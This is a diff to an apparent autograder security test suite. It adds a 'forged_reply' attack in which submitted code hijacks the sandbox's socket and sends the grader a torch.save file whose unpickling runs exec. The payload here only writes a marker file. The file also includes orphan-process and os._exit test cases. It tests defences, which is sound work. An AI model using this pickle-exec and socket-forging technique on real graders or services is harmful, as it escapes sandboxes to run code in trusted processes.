@@ -34,6 +34,7 @@ import re
 import secrets
 import shutil
 import sys
+import tempfile
 from dataclasses import dataclass
 from typing import Callable, Optional
 
@@ -393,6 +394,36 @@ if os.fork() == 0:  # a child that outlives its sandbox; it leaves after 60 s
     os._exit(0)
 '''
 
+# A file the forged reply's payload writes if the grader unpickles it as plain pickle
+# would; unique to this run.
+FORGED_MARKER = os.path.join(tempfile.gettempdir(), "atkforged" + secrets.token_hex(3))
+FORGE_REPLY = '''\
+import gc
+import io
+import struct
+
+import torch
+
+
+class _RunsInTheGrader:
+    def __reduce__(self):  # unpickling it calls exec(...) where it is unpickled
+        return (exec, ("open(@MARKER@, 'w').write('the grader ran learner code')",))
+
+
+# The sandbox's server and its socket to the grader: send a reply of our own first.
+_server = next(o for o in gc.get_objects() if type(o).__name__ == "_Server")
+_reply = io.BytesIO()
+torch.save({"stdout": "", "stderr": "", "error": None, "names": [], "ops": [],
+            "payload": _RunsInTheGrader()}, _reply)
+_server.sock.sendall(struct.pack(">Q", len(_reply.getvalue())) + _reply.getvalue())
+'''
+
+
+def forge_reply(marker=FORGED_MARKER):
+    """The forged-reply attack's code, its payload writing ``marker``."""
+    return FORGE_REPLY.replace("@MARKER@", repr(marker))
+
+
 SEED_TEST_NAMES = ["test_is_param", "test_param_shapes", "test_ma_shapes", "test_test_norm",
                    "test_train_mean", "test_train_var", "test_train_norm",
                    "test_train_mov_mean", "test_train_mov_var", "test_scale_and_shift"]
@@ -681,6 +712,11 @@ ATTACKS = [
            submission("normalization", edit=insert_cells(
                ("p1_answer", f"{MARK}\nimport os\nos._exit(1)")),),
            shows=("marked", "it was skipped")),
+    Attack("forged_reply", "normalization", "p1",
+           "the cell sends the grader a reply of its own on the sandbox's socket: a "
+           "torch.save file whose unpickling runs code (a wrong p1 after it)",
+           submission("normalization", wrong("p1", forge_reply())),
+           shows=("tests", "other than plain data")),
     Attack("orphan_process", "normalization", None,
            "the p1 answer forks a child that outlives its sandbox",
            submission("normalization", {"p1_answer": lambda ref: ORPHAN.replace(
